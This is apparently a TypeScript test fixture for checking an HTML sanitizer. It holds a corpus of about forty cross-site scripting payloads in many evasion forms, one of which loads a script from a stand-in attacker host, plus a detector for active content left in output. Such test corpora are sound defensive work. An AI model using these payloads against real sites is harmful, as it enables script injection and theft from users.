/** The XSS corpus and a checker for active content (used by the API suite and the e2e suite). */

/** Script-bearing HTML in many disguises; a payload that survives sets window.__xss. */
export const XSS_CORPUS = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<img src=x onerror="window.__xss=1">',
  '<IMG SRC=x OnErRoR=window.__xss=1>',
  '<img src="javascript:window.__xss=1">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload="window.__xss=1"><circle r="4"/></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<a href="javascript:window.__xss=1">klik</a>',
  '<a href="JaVaScRiPt:window.__xss=1">klik</a>',
  '<a href="jav&#x61;script:window.__xss=1">entitas</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">entitas desimal</a>',
  '<a href="java\tscript:window.__xss=1">tab</a>',
  '<a href="javascript&colon;window.__xss=1">colon</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
  '<embed src="data:text/html,<script>window.__xss=1</script>">',
  '<p style="background:url(javascript:window.__xss=1)">gaya</p>',
  '<div style="width: expression(window.__xss=1)">ekspresi</div>',
  '<style>@import "javascript:window.__xss=1"; body{background:red}</style>',
  '<link rel="stylesheet" href="javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:window.__xss=1//">',
  '<form action="javascript:window.__xss=1"><button>kirim</button></form>',
  '<input autofocus onfocus="window.__xss=1">',
  '<details open ontoggle="window.__xss=1">d</details>',
  '<body onload="window.__xss=1">',
  '<video><source onerror="window.__xss=1"></video>',
  '<audio src=x onerror=window.__xss=1>',
  '<marquee onstart="window.__xss=1">m</marquee>',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '"><img src=x onerror=window.__xss=1>',
  '<<script>script>window.__xss=1<</script>/script>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<p>aman <b>tebal</b> <i>miring</i></p><img src="x" onerror="window.__xss=1">',
];

/** Decodes what a browser would decode inside an attribute before reading a URL scheme. */
function decodeAttr(v: string): string {
  return v
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;|&newline;/gi, '')
    .replace(/&amp;/gi, '&')
    .split('')
    .filter((c) => c.charCodeAt(0) > 0x20) // browsers skip control characters and spaces in a scheme
    .join('')
    .toLowerCase();
}

/** What in stored/returned HTML could still run script; [] when the HTML is inert. */
export function activeContent(html: string): string[] {
  const found: string[] = [];
  const tag =
    /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|frame|frameset|applet|template|noscript|textarea|select|video|audio|source|body|html|details|marquee)\b/gi;
  for (const m of html.matchAll(tag)) found.push(`tag ${m[1]}`);
  for (const m of html.matchAll(/<[a-z][^>]*>/gi)) {
    const t = m[0];
    for (const a of t.matchAll(/\s([a-z:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi)) {
      const name = a[1].toLowerCase();
      const value = decodeAttr(a[2].replace(/^["']|["']$/g, ''));
      if (name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'xlink:href', 'action'].includes(name)) {
        found.push(`attribute ${name}`);
      }
      if (['href', 'src', 'data', 'action'].includes(name)) {
        if (/^(javascript|vbscript):/.test(value)) found.push(`${name}=${value.slice(0, 20)}`);
        if (/^data:/.test(value) && !/^data:image\/(png|jpeg|jpg|gif|webp);base64,/.test(value)) {
          found.push(`${name}=${value.slice(0, 30)}`);
        }
      }
    }
  }
  return found;
}
